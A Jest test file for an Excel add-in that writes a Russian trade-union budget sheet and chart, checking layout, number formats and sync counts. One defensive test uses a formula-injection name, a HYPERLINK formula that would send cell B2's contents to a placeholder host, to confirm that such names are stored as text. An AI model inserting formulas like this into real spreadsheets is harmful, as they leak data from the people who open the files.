/**
 * writeBudgetSheet against office-addin-mock: a context built from a plain object that records the
 * ranges written and the chart added; syncs are counted (constant, whatever the number of rows).
 */
import { OfficeMockObject } from 'office-addin-mock';
import { BUDGET_HEADERS as SERVER_HEADERS, BUDGET_SHEET_NAME as SERVER_SHEET, type CardBudget } from '../../server/services/cards/budget.service';
import { BUDGET_CHART_NAME, BUDGET_HEADERS, BUDGET_SHEET_NAME, budgetSheetLayout, writeBudgetSheet, type BudgetSheetData, type BudgetSheetLine } from './budget-sheet';

// office-addin-mock needs only the OfficeApp host names from office-addin-manifest (see office-mock.test.ts).
jest.mock('office-addin-manifest', () => ({
  OfficeApp: { Excel: 'excel', OneNote: 'onenote', Outlook: 'outlook', PowerPoint: 'powerpoint', Project: 'project', Word: 'word' },
}));

/** Compile-time: the server's budget is what the sheet takes (the task pane passes the API's JSON as is). */
export const budgetFitsSheet = (b: CardBudget): BudgetSheetData => b;

const PRICE = 1700;
function line(name: string, ordered: number, issued: number, toOrder: number): BudgetSheetLine {
  return { name, ordered, issued, toOrder, orderedCostKopecks: ordered * PRICE, toOrderCostKopecks: toOrder * PRICE, totalCostKopecks: (ordered + toOrder) * PRICE };
}

function budget(children: number): BudgetSheetData {
  const rows = Array.from({ length: children }, (_, i) => line(`ППО № ${i + 1}`, i, i % 2, 2 * i));
  const sum = rows.reduce((a, r) => ({ o: a.o + r.ordered, i: a.i + r.issued, t: a.t + r.toOrder }), { o: 0, i: 0, t: 0 });
  return { organisation: { name: 'Районная организация' }, year: 2026, priceKopecks: PRICE, rows, total: line('Итого: Районная организация', sum.o, sum.i, sum.t), generatedAt: '2026-11-26T09:00:00.000Z' };
}

interface Written {
  address: string;
  values?: unknown[][];
  numberFormat?: unknown[][];
  cleared?: string;
  format: { font: Record<string, unknown>; fill: Record<string, unknown>; columnWidth?: number; rowHeight?: number; wrapText?: boolean };
}

function mockExcel(existing: boolean) {
  const ranges: Written[] = [];
  const charts: Record<string, unknown>[] = [];
  const deleted: string[] = [];
  const range = (address: string): Written => {
    const w: Written = { address, format: { font: {}, fill: {} } };
    (w as unknown as { clear: (how: string) => void }).clear = (how: string) => (w.cleared = how);
    ranges.push(w);
    return w;
  };
  const state = { added: [] as string[], activated: false, frozenRows: 0 };
  const sheet = {
    name: BUDGET_SHEET_NAME,
    isNullObject: !existing,
    charts: {
      items: existing ? [{ name: 'старая', delete: () => deleted.push('старая') }] : [],
      add: (type: string, source: Written, seriesBy: string) => {
        const chart: Record<string, unknown> = {
          type, source: source.address, seriesBy, name: '', title: {}, legend: {},
          axes: { valueAxis: {}, categoryAxis: { setCategoryNames: (r: Written) => (chart.categories = r.address) } },
          setPosition: (from: string, to: string) => (chart.position = `${from}:${to}`),
        };
        charts.push(chart);
        return chart;
      },
    },
    freezePanes: { freezeRows: (n: number) => (state.frozenRows = n) },
    getRange: (address = '(all)') => range(address),
    getRangeByIndexes: (row: number, col: number, rows: number, cols: number) => range(`R${row + 1}C${col + 1}:${rows}x${cols}`),
    activate: () => (state.activated = true),
  };
  const data = {
    context: {
      workbook: {
        worksheets: {
          sheet,
          getItemOrNullObject(this: { sheet: unknown }, name: string) {
            if (name !== BUDGET_SHEET_NAME) throw new Error('unexpected sheet');
            return this.sheet;
          },
          add(this: { sheet: unknown }, name: string) {
            state.added.push(name);
            return this.sheet;
          },
        },
      },
    },
  };
  const mock = new OfficeMockObject(data) as unknown as { context: { sync(): Promise<void> } };
  const ctx = mock.context;
  let syncs = 0;
  const sync = ctx.sync.bind(ctx);
  ctx.sync = async () => {
    syncs++;
    await sync();
  };
  return { context: ctx as unknown as Excel.RequestContext, ranges, charts, deleted, syncs: () => syncs, state };
}

describe('the «Бюджет ЭПБ» sheet', () => {
  test('the same sheet name and headers as the server\'s budget.xlsx', () => {
    expect(BUDGET_SHEET_NAME).toBe(SERVER_SHEET);
    expect([...BUDGET_HEADERS]).toEqual([...SERVER_HEADERS]);
  });

  test('layout: title, price, header, one row per child and the total; counts and roubles with their formats', () => {
    const l = budgetSheetLayout(budget(3));
    expect(l.values).toHaveLength(5 + 4);
    expect(l.values.every((r) => r.length === l.columns)).toBe(true);
    expect(l.values[0][0]).toBe('Бюджет на электронные профсоюзные билеты на 2026 год: Районная организация');
    expect(l.values[1][0]).toBe('Цена одного билета в 2026 году: 17,00 руб. Данные на 26.11.2026.');
    expect(l.values[4]).toEqual([...BUDGET_HEADERS]);
    expect(l.values[7]).toEqual(['ППО № 3', 2, 0, 4, 34, 68, 102]);
    expect(l.values[8]).toEqual(['Итого: Районная организация', 3, 1, 6, 51, 102, 153]);
    expect(l.numberFormats[8]).toEqual(['@', '0', '0', '0', '#,##0.00', '#,##0.00', '#,##0.00']);
    expect({ first: l.firstDataRow, total: l.totalRow }).toEqual({ first: 6, total: 9 });
  });

  test('a subordinate named like a formula is written as text: its name cell has number format «@», set before the values', async () => {
    const evil = '=HYPERLINK("http://example.invalid/?"&B2,"Нажмите")';
    const b = budget(3);
    b.rows[0] = { ...b.rows[0], name: evil };
    b.rows[1] = { ...b.rows[1], name: '-1+2' };
    const x = mockExcel(false);
    await writeBudgetSheet(x.context, b);
    const table = x.ranges.find((r) => r.values)!;
    for (const name of [evil, '-1+2']) {
      const i = table.values!.findIndex((r) => r[0] === name);
      expect(i).toBeGreaterThan(0);
      expect(table.numberFormat![i]).toEqual(['@', '0', '0', '0', '#,##0.00', '#,##0.00', '#,##0.00']);
    }
    table.values!.forEach((r, i) => r.forEach((v, c) => { if (typeof v === 'string') expect(table.numberFormat![i][c]).toBe('@'); }));
    expect(Object.keys(table).indexOf('numberFormat')).toBeLessThan(Object.keys(table).indexOf('values'));
  });

  test('a new sheet: two syncs, the table in one write, a clustered column chart of the children, frozen header', async () => {
    const x = mockExcel(false);
    const report = await writeBudgetSheet(x.context, budget(3));
    expect(report).toEqual({ rows: 3, chart: true, syncs: 2 });
    expect(x.syncs()).toBe(2);
    expect(x.state).toMatchObject({ added: [BUDGET_SHEET_NAME], activated: true, frozenRows: 5 });
    const table = x.ranges.find((r) => r.values)!;
    expect(table.address).toBe('R1C1:9x7');
    expect(table.values![8]).toEqual(['Итого: Районная организация', 3, 1, 6, 51, 102, 153]);
    expect(x.ranges.filter((r) => r.values)).toHaveLength(1);
    expect(x.charts).toHaveLength(1);
    expect(x.charts[0]).toMatchObject({
      type: 'ColumnClustered',
      seriesBy: 'Columns',
      source: 'R5C2:4x3', // header + 3 children, columns «Заказано», «Выдано», «Можно заказать»
      categories: 'R6C1:3x1',
      name: BUDGET_CHART_NAME,
      title: { text: 'Электронные профсоюзные билеты, 2026' },
      position: 'A11:G31',
    });
  });

  test('an existing sheet: old charts deleted and contents cleared; three syncs for 3 or 300 organisations', async () => {
    for (const n of [3, 300]) {
      const x = mockExcel(true);
      const report = await writeBudgetSheet(x.context, budget(n));
      expect(report).toEqual({ rows: n, chart: true, syncs: 3 });
      expect(x.syncs()).toBe(3);
      expect(x.deleted).toEqual(['старая']);
      expect(x.ranges.find((r) => r.address === '(all)')?.cleared).toBe('All');
      expect(x.state.added).toEqual([]);
      expect(x.ranges.find((r) => r.values)!.values).toHaveLength(5 + n + 1);
    }
  });

  test('no child organisations (a primary without units): the table with the total, no chart', async () => {
    const x = mockExcel(false);
    expect(await writeBudgetSheet(x.context, budget(0))).toEqual({ rows: 0, chart: false, syncs: 2 });
    expect(x.charts).toEqual([]);
  });
});
